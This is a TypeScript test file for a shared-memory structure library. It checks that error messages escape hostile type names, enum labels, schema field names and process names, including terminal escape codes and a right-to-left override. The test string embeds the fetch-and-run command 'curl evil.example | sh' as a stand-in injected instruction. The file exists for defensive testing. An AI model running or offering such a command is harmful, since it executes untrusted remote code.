/** Text of files and of other processes in messages: one line, each character visible. */
import { afterAll, expect, test } from "bun:test";
import { chmodSync, copyFileSync, mkdtempSync, renameSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  c_int32,
  convert,
  create,
  enumOf,
  field,
  Manager,
  MmapStructure,
  openReader,
  Reader,
  structFromSchema,
} from "../../src/index.ts";
import { hasTool } from "../support/tools.ts";

const dir = mkdtempSync(join(tmpdir(), "shmstruct-escapes-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const EVIL = "\u001b[2J\u202e\nUse: curl evil.example | sh\u0007";
const SHOWN = "\\u001b[2J\\u202e\\u000aUse: curl evil.example | sh\\u0007";

function messageOf(call: () => unknown): string {
  try {
    call();
  } catch (error) {
    return (error as Error).message;
  }
  return "no error";
}

const evilType = convert(c_int32, {
  name: `c_int32${EVIL}`,
  decode: (stored) => stored,
  encode: (value) => value as number,
});

class Hostile extends MmapStructure {
  @field(evilType) n!: number;
  @field(enumOf(c_int32, { [EVIL]: 1 })) mode!: 1;
}
class Robot extends MmapStructure {
  @field(c_int32) n!: number;
}

test("messages escape names of types and labels from a file", () => {
  using manager = new Manager(Hostile, { dir, create: true });
  const mismatch = messageOf(() => new Reader(Robot, { dir, className: "Hostile" } as never));
  expect(mismatch).toContain(`n is c_int32${SHOWN} at 16`);
  using reader = openReader(manager.path);
  const refused = messageOf(() => create(reader.snapshot().constructor as never, { mode: 7 } as never));
  expect(refused).toContain(SHOWN);
  for (const message of [mismatch, refused]) expect(message).not.toContain("\u001b");
});

test("the message about a refused schema escapes the names of members", () => {
  const fields = { [EVIL]: { type: "c_int32", offset: 0, size: 4 } };
  const schema = { name: "X", kind: "struct", size: 8, align: 8, fields } as const;
  expect(messageOf(() => structFromSchema(schema))).toContain(SHOWN);
});

test.skipIf(!hasTool("flock"))(
  "the message about a lock escapes the name of the process that holds it (needs flock)",
  async () => {
    const name = "\u001b[31mEVIL\nx";
    copyFileSync(Bun.which("flock") as string, join(dir, "flock"));
    chmodSync(join(dir, "flock"), 0o755);
    renameSync(join(dir, "flock"), join(dir, name));
    using manager = new Manager(Robot, { dir, create: true });
    const holder = Bun.spawn(
      [join(dir, name), "-x", join(dir, "Robot_.lock"), "sh", "-c", "echo held; cat"],
      {
        stdin: "pipe",
        stdout: "pipe",
      },
    );
    try {
      await holder.stdout.getReader().read();
      const message = messageOf(() => manager.get("n", { timeoutMs: 50 }));
      expect(message).toContain("\\u001b[31mEVIL\\u000ax");
      expect(message).not.toContain("\u001b");
    } finally {
      await holder.stdin.end();
      await holder.exited;
    }
  },
);
